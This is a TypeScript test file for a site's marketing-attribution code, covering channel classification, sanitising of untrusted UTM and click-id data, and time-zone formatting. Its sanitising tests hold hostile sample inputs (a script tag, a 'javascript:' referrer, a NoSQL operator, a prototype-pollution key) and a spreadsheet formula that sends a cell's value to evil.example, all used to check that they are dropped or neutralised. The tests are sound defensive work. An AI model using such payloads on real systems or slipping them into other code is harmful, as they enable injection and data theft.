import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { classifyTouch } from '../../src/attribution/channel.js';
import { attributionFromBrowser, attributionFromReferer } from '../../src/attribution/sanitize.js';
import { ATTRIBUTION_PARAMS } from '../../src/shared/attribution.js';
import { formatLocalTime, localDayRange } from '../../src/time/local-time.js';

const channels = suite('channel grouping');

const cases: [string, Parameters<typeof classifyTouch>[0], string, string, string][] = [
  // description, touch, channel, source, medium
  ['Google Ads click', { params: { utm_source: 'google', utm_medium: 'cpc', gclid: 'X' } }, 'Paid Search', 'google', 'cpc'],
  ['gclid alone', { params: { gclid: 'X' } }, 'Paid Search', 'google', 'cpc'],
  ['Microsoft Ads click', { params: { msclkid: 'M' } }, 'Paid Search', 'bing', 'cpc'],
  ['tagged paid search without a click id', { params: { utm_source: 'bing', utm_medium: 'ppc' } }, 'Paid Search', 'bing', 'ppc'],
  ['Google search result', { params: {}, referrer: 'https://www.google.com.au/' }, 'Organic Search', 'google.com.au', 'organic'],
  ['DuckDuckGo result', { params: {}, referrer: 'https://duckduckgo.com/' }, 'Organic Search', 'duckduckgo.com', 'organic'],
  ['paid Facebook campaign', { params: { utm_source: 'facebook', utm_medium: 'paid_social' } }, 'Paid Social', 'facebook', 'paid_social'],
  ['TikTok ad click', { params: { ttclid: 'T' } }, 'Paid Social', 'tiktok', 'cpc'],
  [
    'organic Facebook link (fbclid only)',
    { params: { fbclid: 'F' }, referrer: 'https://l.facebook.com/' },
    'Organic Social',
    'facebook',
    'referral',
  ],
  ['LinkedIn post', { params: {}, referrer: 'https://www.linkedin.com/' }, 'Organic Social', 'linkedin.com', 'referral'],
  ['ChatGPT answer link', { params: { utm_source: 'chatgpt.com' } }, 'AI Assistant', 'chatgpt.com', '(none)'],
  ['Perplexity referral', { params: {}, referrer: 'https://www.perplexity.ai/' }, 'AI Assistant', 'perplexity.ai', 'referral'],
  ['Gemini is not Google search', { params: {}, referrer: 'https://gemini.google.com/' }, 'AI Assistant', 'gemini.google.com', 'referral'],
  ['Copilot', { params: {}, referrer: 'https://copilot.microsoft.com/' }, 'AI Assistant', 'copilot.microsoft.com', 'referral'],
  ['newsletter', { params: { utm_source: 'mailchimp', utm_medium: 'email', utm_campaign: 'august' } }, 'Email', 'mailchimp', 'email'],
  ['a partner site', { params: {}, referrer: 'https://www.example.org/resources' }, 'Referral', 'example.org', 'referral'],
  ['typed or bookmarked', { params: {} }, 'Direct', '(direct)', '(none)'],
  ['tagged with an unknown medium', { params: { utm_source: 'flyer', utm_medium: 'qr' } }, 'Other', 'flyer', 'qr'],
];

for (const [what, touch, channel, source, medium] of cases) {
  channels(what, () => {
    assert.equal(classifyTouch(touch), { channel, source, medium });
  });
}
channels.run();

const sanitising = suite('attribution is untrusted');
const now = Date.parse('2026-11-23T03:00:00Z');
const isSitePath = (p: string) => ['/', '/strategy/google-ads', '/strategy/seo'].includes(p);
const good = {
  at: now - 60_000,
  path: '/strategy/google-ads',
  params: { utm_source: 'google', utm_medium: 'cpc', utm_campaign: 'spring', gclid: 'TEST1' },
};

sanitising('a well-formed record is kept, classified and bounded', () => {
  const a = attributionFromBrowser(
    { first: good, last: { ...good, at: now - 1000, path: '/strategy/seo', params: {} }, pages: 3 },
    isSitePath,
    now,
  )!;
  assert.is(a.via, 'browser');
  assert.is(a.pagesViewed, 3);
  assert.is(a.first?.channel, 'Paid Search');
  assert.equal(a.first?.params, good.params);
  assert.is(a.first?.at, new Date(good.at).toISOString());
  assert.is(a.last?.channel, 'Direct');
});

sanitising('hostile values: unknown keys, arrays, huge strings, javascript: referrers, markup, foreign paths', () => {
  const a = attributionFromBrowser(
    {
      first: {
        ...good,
        params: {
          utm_source: 'x'.repeat(10_000),
          utm_medium: ['cpc'],
          evil: 'drop me',
          utm_campaign: '<script>alert(1)</script>',
          gclid: { $gt: '' },
        },
        referrer: 'javascript:alert(1)',
        extra: 'ignored',
      },
      last: { ...good, path: 'https://evil.example/phish' },
      pages: 1e9,
      __proto__: { polluted: true },
    },
    isSitePath,
    now,
  )!;
  assert.ok(a.first);
  assert.is(a.first.params.utm_source?.length, 200, 'bounded');
  assert.is(a.first.params.utm_medium, undefined, 'arrays dropped');
  assert.is(a.first.params.utm_campaign, '<script>alert(1)</script>', 'kept as text; escaped wherever shown');
  assert.is(a.first.params.gclid, undefined);
  assert.not.ok('evil' in a.first.params);
  assert.is(a.first.referrer, '', 'javascript: is not a referrer');
  assert.is(a.last, undefined, 'a landing page must be a page of this site');
  assert.is(a.pagesViewed, undefined);
  assert.is(({} as Record<string, unknown>).polluted, undefined);
});

sanitising('nothing usable means no attribution, never an error', () => {
  for (const raw of [
    undefined,
    null,
    'text',
    42,
    [],
    {},
    { first: 'x' },
    { first: { ...good, at: 'yesterday' } },
    { first: { ...good, at: now + 86_400_000 } },
  ]) {
    assert.is(attributionFromBrowser(raw, isSitePath, now), undefined, JSON.stringify(raw));
  }
});

sanitising("without JavaScript, the post's same-origin Referer is the last touch", () => {
  const origins = ['https://www.laserfocus.example'];
  const a = attributionFromReferer(
    'https://www.laserfocus.example/strategy/google-ads?utm_source=google&gclid=X&email=me%40x.com',
    origins,
    isSitePath,
    now,
  )!;
  assert.is(a.via, 'referer');
  assert.is(a.first, undefined);
  assert.is(a.last?.path, '/strategy/google-ads');
  assert.equal(a.last?.params, { utm_source: 'google', gclid: 'X' }, 'only allowlisted parameters');
  assert.is(a.last?.channel, 'Paid Search');
  assert.is(
    attributionFromReferer('https://evil.example/strategy/seo?utm_source=x', origins, isSitePath, now),
    undefined,
    'other origins are ignored',
  );
  assert.is(attributionFromReferer('not a url', origins, isSitePath, now), undefined);
});

sanitising('click ids are kept only in the characters their network issues; campaign tags stay as sent', () => {
  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
  const real = {
    gclid: 'Cj0KCQiA-_example_GCLID123',
    gbraid: '0AAAAA-braid_1',
    wbraid: 'CkEKCQiA-wbraid_2',
    msclkid: '3f2b1c4d5e6f708192a3b4c5d6e7f809',
    fbclid: 'IwZXh0bgNhZW0CMTEAAR0_aem_AbCd-Ef',
    li_fat_id: '85929337-d448-42da-a095-0b3c5500fa50',
    ttclid: 'E.C.P.CqgBexample-_1',
  };
  const kept = attributionFromBrowser({ first: { ...good, params: real } }, isSitePath, now)!;
  assert.equal(kept.first?.params, real, 'ids as the networks issue them are kept exactly');

  const forged = Object.fromEntries(Object.keys(real).map((p) => [p, formula]));
  const tags = { utm_source: 'google', utm_medium: 'cpc', utm_campaign: formula };
  const a = attributionFromBrowser({ first: { ...good, params: { ...forged, ...tags } } }, isSitePath, now)!;
  assert.equal(a.first?.params, tags, 'every forged click id dropped; tags kept, neutralised where exported');
  for (const bad of ['Cj0 KC', 'abc+def', 'abc/def=', 'abc"', "x'y", 'a|b', 'gclid.with.dots']) {
    assert.is(attributionFromBrowser({ first: { ...good, params: { gclid: bad } } }, isSitePath, now)!.first?.params.gclid, undefined, bad);
  }

  const origins = ['https://www.laserfocus.example'];
  const viaReferer = attributionFromReferer(
    `https://www.laserfocus.example/strategy/google-ads?gclid=${encodeURIComponent(formula)}&utm_source=google`,
    origins,
    isSitePath,
    now,
  )!;
  assert.equal(viaReferer.last?.params, { utm_source: 'google' }, 'the same without JavaScript');
});

sanitising('every allowlisted parameter is kept', () => {
  const params = Object.fromEntries(ATTRIBUTION_PARAMS.map((p) => [p, `v-${p}`]));
  const a = attributionFromBrowser({ first: { ...good, params } }, isSitePath, now)!;
  assert.equal(Object.keys(a.first!.params).sort(), [...ATTRIBUTION_PARAMS].sort());
});
sanitising.run();

const times = suite('times shown to people');
times('in the agency time zone, daylight saving handled', () => {
  assert.is(formatLocalTime('2026-11-22T15:40:20.981Z', 'Australia/Melbourne'), 'Mon 23 Nov 2026, 2:40 am AEDT');
  assert.is(formatLocalTime('2026-07-22T00:05:00.000Z', 'Australia/Melbourne'), 'Wed 22 Jul 2026, 10:05 am AEST');
  assert.is(formatLocalTime('2026-07-22T00:05:00.000Z', 'Australia/Perth'), 'Wed 22 Jul 2026, 8:05 am AWST');
});
times('a local day runs from local midnight to local midnight', () => {
  assert.equal(localDayRange('2026-11-23', '2026-11-23', 'Australia/Melbourne'), {
    since: '2026-11-22T13:00:00.000Z',
    until: '2026-11-23T13:00:00.000Z',
  });
  // Daylight saving ends on 5 April 2026: that day is 25 hours long.
  assert.equal(localDayRange('2026-04-05', '2026-04-05', 'Australia/Melbourne'), {
    since: '2026-04-04T13:00:00.000Z',
    until: '2026-04-05T14:00:00.000Z',
  });
});
times.run();
